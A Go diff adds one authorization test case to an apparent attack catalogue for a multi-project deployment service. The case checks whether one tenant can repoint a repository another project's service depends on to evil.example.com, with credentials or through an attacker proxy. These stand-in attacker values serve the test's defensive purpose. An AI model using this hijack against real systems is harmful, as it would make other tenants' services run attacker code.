@@ -28,6 +28,29 @@ var deletedAndTaken = Attack{
 	},
 }
 
+var usedAddress = Attack{
+	Class: "A3", Name: "address-of-what-others-use", Needs: API,
+	Story: "Somebody whose repository is used by name by a service of another project changes its address, or the way to it, and wants that service to run what is there.",
+	Play: func(p *Play) string {
+		owner, mallory := p.project("shop"), p.project("lab")
+		p.admin().must("Bindings/Create", `{"subjectKind": "user", "subject": "<<shop>>@example.com", "actions": ["read"], "place": {"project": "<<lab>>"}}`)
+		mallory.must("Repositories/Create", `{"name": "<<git>>", "project": "<<lab>>", "url": "https://git.example.com/x.git"}`)
+		p.later("Repositories/Delete", `{"name": "<<git>>"}`)
+		mallory.must("Repositories/Update", `{"name": "<<git>>", "url": "https://git.example.com/y.git"}`) // nobody uses it yet
+		p.newCluster("edge", "shop", "")
+		owner.must("Services/Create", `{"ref": {"cluster": "<<edge>>", "name": "<<web>>"}, "spec": {"repository": "<<git>>", "git": {"ref": "main"}}}`)
+		for to, change := range map[string]string{
+			"another URL": `"url": "https://evil.example.com/y.git"`, "another URL with credentials": `"url": "https://evil.example.com/y.git", "auth": "basic", "credentials": {"username": "a", "password": "hunter2"}`,
+			"a proxy of the stranger": `"options": {"proxy": "http://evil.example.com:3128"}`,
+		} {
+			if mallory.call("Repositories/Update", `{"name": "<<git>>", %s}`, change).ok() {
+				return "the service of another project is read from " + to
+			}
+		}
+		return ""
+	},
+}
+
 var handles = Attack{
 	Class: "A3", Name: "handles", Needs: API,
 	Story: "Somebody who may create clusters in a project gives one the name of another's cluster, or of the hub's own, as its handle: kubectl and templates go by handles.",
